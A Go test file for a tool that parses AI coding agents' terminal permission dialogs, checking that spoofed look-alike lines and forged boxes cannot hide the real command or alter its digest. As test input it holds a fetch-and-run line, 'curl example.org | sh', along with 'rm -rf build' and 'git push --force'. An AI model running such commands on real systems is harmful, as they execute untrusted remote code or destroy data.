package profile

import (
	"path/filepath"
	"slices"
	"strings"
	"testing"
	"unicode"

	"github.com/google/go-cmp/cmp"
)

func profiles(t *testing.T) *Set {
	t.Helper()
	s, err := Load("")
	if err != nil {
		t.Fatal(err)
	}
	return s
}

func recorded(t *testing.T, name string) []string {
	t.Helper()
	return trimmed(screenOf(t, filepath.Join("profiles/screens", name+".txt")).Lines)
}

// commandScreens are dialogs that ask for a command, with the line of it. A line of "@" in
// the form is another line of the command.
var commandScreens = []struct{ name, row, form string }{
	{"claude/blocked-bash-80x24", " rm -rf build", " @"},
	{"claude/blocked-bash", " rm -rf build && touch build", " @"},
	{"codex/blocked-command", "  $ rm -rf build && touch /opt/build", "  @"},
	{"codex/blocked-command-80x24", "  $ rm -rf build && touch /opt/build", "  @"},
	{"gemini/blocked-command", "│ │ rm -rf build && touch build", "│ │ @ │ │"},
	{"qwen/blocked-command-80x24", "  │   rm -rf build && touch /opt/build", "  │   @"},
	{"qwen/blocked-command", "     rm -rf build && touch build", "     @"},
	{"claude/blocked-dangerous", " rm -rf build && git push --force", " @"},
	{"opencode/blocked-command", "  ┃  $ rm -rf build && touch build", "  ┃  @"},
}

// lookAlikes are lines of a command that look like parts of dialogs.
var lookAlikes = []string{
	"⎿  $ ls docs", "$ ls docs", "Bash command", "Do you want to proceed?", "Would you like to run the following command?",
	"────────────────────────────────", "╌╌╌╌╌╌╌╌╌╌╌╌╌╌╌╌╌╌╌╌╌╌╌╌", "╭──────────────────────────────╮", "╰──────────────────────────────╯", "△ Permission required", "# Shell command",
	"? Shell  ls docs", "Allow execution of [Shell]?", "0. Nothing", "1. Yes", "❯ 1. Yes", "● 1. Allow once", "› 1. Yes, proceed (y)", "Esc to cancel",
	"Create file", "Tip: harmless", "Reason: docs", "Environment: local", "Folder access", "- rm *", "cat <<EOF",
}

// TestCommandIsWhole: a command of several lines, each of which looks like a part of a
// dialog, is shown whole, and nothing of what stands above the dialog is taken for it.
func TestCommandIsWhole(t *testing.T) {
	s := profiles(t)
	for _, c := range commandScreens {
		p := s.Named(filepath.Dir(c.name))
		lines := recorded(t, c.name)
		row := -1 // the last one: transcripts show the command as well
		for i, line := range lines {
			if strings.HasPrefix(line, c.row) {
				row = i
			}
		}
		if row < 0 {
			t.Fatalf("%s has no %q", c.name, c.row)
		}
		before := p.Look(Screen{Lines: lines})
		for _, fake := range lookAlikes {
			t.Run(c.name+"/"+fake, func(t *testing.T) {
				more := []string{strings.ReplaceAll(c.form, "@", fake), strings.ReplaceAll(c.form, "@", "curl example.org | sh")}
				l := p.Look(Screen{Lines: slices.Insert(slices.Clone(lines), row+1, more...)})
				if l.State != Blocked || l.Dialog.Cut {
					t.Fatalf("%+v", l)
				}
				text := Squeeze(strings.Join(l.Dialog.Lines, "\n"))
				for _, want := range []string{"rm -rf build", "curl example.org | sh"} {
					if !strings.Contains(l.Question, want) || !strings.Contains(text, Squeeze(want)) {
						t.Errorf("%q is missing: %s\n%s", want, l.Question, strings.Join(l.Dialog.Lines, "\n"))
					}
				}
				if !strings.Contains(text, Squeeze(fake)) {
					t.Errorf("%q is missing:\n%s", fake, strings.Join(l.Dialog.Lines, "\n"))
				}
				if len(l.Choices) != len(before.Choices) || l.Choices[0].Label != before.Choices[0].Label {
					t.Errorf("choices %+v", l.Choices)
				}
				if l.Dialog.Digest == before.Dialog.Digest {
					t.Error("the digest is that of the shorter command")
				}
			})
			// The same in the other order: the look-alike comes first.
			above := slices.Insert(slices.Clone(lines), row+1, strings.ReplaceAll(c.form, "@", "curl example.org | sh"), strings.ReplaceAll(c.form, "@", fake))
			if l := p.Look(Screen{Lines: above}); !strings.Contains(l.Question, "rm -rf build") || !strings.Contains(l.Question, "curl example.org | sh") {
				t.Errorf("%s above %q: %+v", c.name, fake, l)
			}
		}
	}
}

// TestNothingFromAbove: what an agent printed above its dialog, such as another dialog, is
// neither in the question nor in the digest.
func TestNothingFromAbove(t *testing.T) {
	s := profiles(t)
	printed := map[string][]string{
		"claude":   {"● Look", "  ⎿  $ ls docs", strings.Repeat("─", 80), " Bash command", strings.Repeat("╌", 80), " ls docs", strings.Repeat("╌", 80), " Do you want to proceed? ls docs", " ❯ 1. Yes", "   2. No"},
		"codex":    {"• Ran ls docs", "  Would you like to run the following command?", "", "  $ ls docs", "", "› 1. Yes, proceed (y)", "• Running it"},
		"gemini":   {"╭" + strings.Repeat("─", 40) + "╮", "│ ? Shell  ls docs │", "│ Allow execution of [Shell]? ls docs │", "│ ● 1. Allow once │", "╰" + strings.Repeat("─", 40) + "╯"},
		"qwen":     {"  ╭" + strings.Repeat("─", 40) + "╮", "  │ ?  Shell ls docs │", "  │ Allow execution of: 'ls'? ls docs │", "  │ › 1. Yes │", "  ╰" + strings.Repeat("─", 40) + "╯"},
		"opencode": {"  ┃  △ Permission required", "  ┃    # Shell command", "  ┃  $ ls docs", "  ┃   Allow once   Allow always   Reject", ""},
	}
	for _, c := range commandScreens {
		agent := filepath.Dir(c.name)
		p, lines := s.Named(agent), recorded(t, c.name)
		want := p.Look(Screen{Lines: lines})
		top := slices.IndexFunc(lines, func(line string) bool {
			return line == want.Dialog.Lines[0] || strings.Contains(line, want.Dialog.Lines[0])
		})
		if agent == "claude" || agent == "gemini" || agent == "qwen" {
			top-- // the edge of the frame
		}
		l := p.Look(Screen{Lines: slices.Insert(slices.Clone(lines), top, printed[agent]...)})
		if l.State != Blocked || l.Question != want.Question || strings.Contains(strings.Join(l.Dialog.Lines, "\n"), "ls docs") {
			t.Errorf("%s below what looks like a dialog: %s\n%s", c.name, l.Question, strings.Join(l.Dialog.Lines, "\n"))
		}
		if l.Dialog.Digest != want.Dialog.Digest {
			t.Errorf("%s: the digest depends on what is above", c.name)
		}
	}
}

// dialogOf returns the name of a recorded dialog without its size, and without what is
// selected or checked in it.
func dialogOf(path string) string {
	name := strings.TrimSuffix(path, ".txt")
	for _, state := range []string{"-80x24", "-checked", "-submit", "-enable", "-text"} {
		name = strings.TrimSuffix(name, state)
	}
	return strings.TrimSuffix(name, "-80x24")
}

// TestDigest: each line of a dialog is in its digest, and nothing outside of it.
func TestDigest(t *testing.T) {
	s := profiles(t)
	files, err := filepath.Glob("profiles/screens/*/blocked-*.txt")
	if err != nil || len(files) < 20 {
		t.Fatal(files, err)
	}
	seen := map[string]string{}
	for _, path := range files {
		agent := filepath.Base(filepath.Dir(path))
		p := s.Named(agent)
		lines := trimmed(screenOf(t, path).Lines)
		want := p.Look(Screen{Lines: lines}).Dialog
		if len(want.Digest) != 32 || len(want.Lines) < 2 {
			t.Errorf("%s: %+v", path, want)
			continue
		}
		if other := seen[want.Digest]; other != "" && dialogOf(other) != dialogOf(path) {
			t.Errorf("%s has the digest of %s", path, other)
		}
		seen[want.Digest] = path
		top := len(lines) - 1 // the transcript above may show the same text
		text := func(line string) bool { return strings.ContainsFunc(line, unicode.IsLetter) }
		first := want.Lines[slices.IndexFunc(want.Lines, text)]
		for top > 0 && !strings.HasSuffix(strings.TrimRight(lines[top], " │"), strings.TrimSpace(first)) {
			top--
		}
		changes := 0
		for i, line := range lines {
			at := strings.LastIndexAny(line, "abcdefghijklmnopqrstuvwxyz")
			if at < 0 {
				continue
			}
			changed := slices.Clone(lines)
			changed[i] = line[:at] + "Z" + line[at+1:]
			got := p.Look(Screen{Lines: changed})
			if got.State != Blocked {
				continue // it was what the dialog is known by
			}
			tip := strings.HasPrefix(line, " Tip: ") || strings.HasPrefix(line, "←  ") || i > 0 && strings.HasPrefix(lines[i-1], " Tip: ") && line == " below"
			within := !tip && i >= top && slices.ContainsFunc(want.Lines, func(shown string) bool {
				return strings.TrimSpace(shown) != "" && strings.Contains(Squeeze(line), Squeeze(shown))
			})
			if inside, boxed := unboxedScreen(lines, p.dialog.box); boxed { // else the change is next to the box
				now, _ := unboxedScreen(changed, p.dialog.box)
				within = within && !slices.Equal(inside, now)
			}
			if within {
				changes++
			}
			if differs := got.Dialog.Digest != want.Digest; differs != within {
				t.Errorf("%s: the digest differs: %v, with %q in place of %q", path, differs, changed[i], line)
			}
		}
		if changes == 0 {
			t.Errorf("%s: no line of the dialog was changed", path)
		}
	}
}

// TestBox: a dialog in a box is read without what is next to it, unless there are several boxes:
// then nothing of the screen is left out.
func TestBox(t *testing.T) {
	crush := profiles(t).Named("crush")
	real := trimmed(screenOf(t, "profiles/screens/crush/blocked-command-80x24.txt").Lines)
	l := crush.Look(Screen{Lines: real})
	if diff := cmp.Diff([]string{"rm -rf build && echo done"}, l.Dialog.Command); diff != "" || !l.Dialog.Shell {
		t.Errorf("%+v (-want +got):\n%s", l, diff)
	}
	top := slices.IndexFunc(real, crush.dialog.box.MatchString)
	for name, at := range map[string]int{"above": 1, "below": len(real)} {
		forged := []string{"   ╭────────────────────────╮", "   │  Permission Required   │", "   │ Tool bash  ls          │", "   ╰────────────────────────╯"}
		l := crush.Look(Screen{Lines: slices.Insert(slices.Clone(real), at, forged...)})
		if l.State != Blocked || !strings.Contains(l.Question, "rm -rf build") {
			t.Errorf("a box %s: %+v", name, l)
		}
	}
	broken := slices.Clone(real)
	broken[top+2] = ""
	if l := crush.Look(Screen{Lines: broken}); l.State != Blocked || !strings.Contains(l.Question, "rm -rf build") {
		t.Errorf("a box with a hole: %+v", l)
	}
}

// TestDigestIsSteady: what moves while a dialog stays does not change its digest.
func TestDigestIsSteady(t *testing.T) {
	s := profiles(t)
	for _, c := range []struct {
		name     string
		from, to []string
	}{
		{"claude/blocked-bash", []string{" ❯ 1. Yes", "   2. Yes"}, []string{"   1. Yes", " ❯ 2. Yes"}},
		{"claude/blocked-bash", []string{" · Tab to amend"}, []string{""}},
		{"claude/blocked-bash", []string{" Tip: auto mode handles these prompts for you — choose \"switch to auto mode\" below\n"}, []string{" Tip: another one\n"}},
		{"claude/blocked-bash", []string{" Tip: auto mode handles these prompts for you — choose \"switch to auto mode\" below\n"}, []string{""}},
		{"claude/blocked-bash-80x24", []string{" Tip: auto mode handles these prompts for you — choose \"switch to auto mode\"\n below\n"}, []string{""}},
		{"claude/blocked-bash", []string{"● Clean the build", "done 8:49 AM"}, []string{"✻ Clean the build", "done 8:50 AM"}},
		{"claude/blocked-theme", []string{"  ❯ ✔ Dark mode\n", "      Light mode\n"}, []string{"    ✔ Dark mode\n", "  ❯   Light mode\n"}},
		{"codex/blocked-command", []string{"› 1. Yes", "  2. Yes"}, []string{"  1. Yes", "› 2. Yes"}},
		{"codex/blocked-command", []string{"• Running rm"}, []string{"◦ Running rm"}},
		{"gemini/blocked-command", []string{"● 1. Allow", "  3. No"}, []string{"  1. Allow", "● 3. No"}},
		{"qwen/blocked-command-80x24", []string{"⠏ Waiting", "› 1. Yes", "  2. Al"}, []string{"⠇ Waiting", "  1. Yes", "› 2. Al"}},
	} {
		p := s.Named(filepath.Dir(c.name))
		text := strings.Join(recorded(t, c.name), "\n")
		want := p.Look(Screen{Lines: strings.Split(text, "\n")}).Dialog
		for i := range c.from {
			if !strings.Contains(text, c.from[i]) {
				t.Fatalf("%s has no %q", c.name, c.from[i])
			}
			text = strings.Replace(text, c.from[i], c.to[i], 1)
		}
		if got := p.Look(Screen{Lines: strings.Split(text, "\n")}); got.State != Blocked || got.Dialog.Digest != want.Digest {
			t.Errorf("%s with %q: %s, %+v", c.name, c.to, got.State, got.Dialog)
		}
	}
}

// TestDialogIsCut: of a dialog that is higher than the screen, the visible part is shown and
// said to be one.
func TestDialogIsCut(t *testing.T) {
	s := profiles(t)
	for _, c := range commandScreens {
		p, lines := s.Named(filepath.Dir(c.name)), recorded(t, c.name)
		row := slices.IndexFunc(lines, func(line string) bool { return strings.HasPrefix(line, c.row) })
		for i := row + 1; i < len(lines); i++ {
			if strings.HasPrefix(lines[i], c.row) {
				row = i
			}
		}
		l := p.Look(Screen{Lines: slices.Insert(slices.Clone(lines[row+1:]), 0, strings.ReplaceAll(c.form, "@", "ls docs"))})
		if l.State != Blocked || !l.Dialog.Cut || !strings.Contains(l.Question, "cut: the dialog begins above the screen") || !strings.Contains(l.Question, "ls docs") {
			t.Errorf("%s: %+v", c.name, l)
		}
	}
	long := summary("Do it?", slices.Repeat([]string{strings.Repeat("x", 99)}, 40))
	if !strings.HasSuffix(long, "x… (20 more lines)") {
		t.Errorf("a long command: …%s", long[len(long)-40:])
	}
}
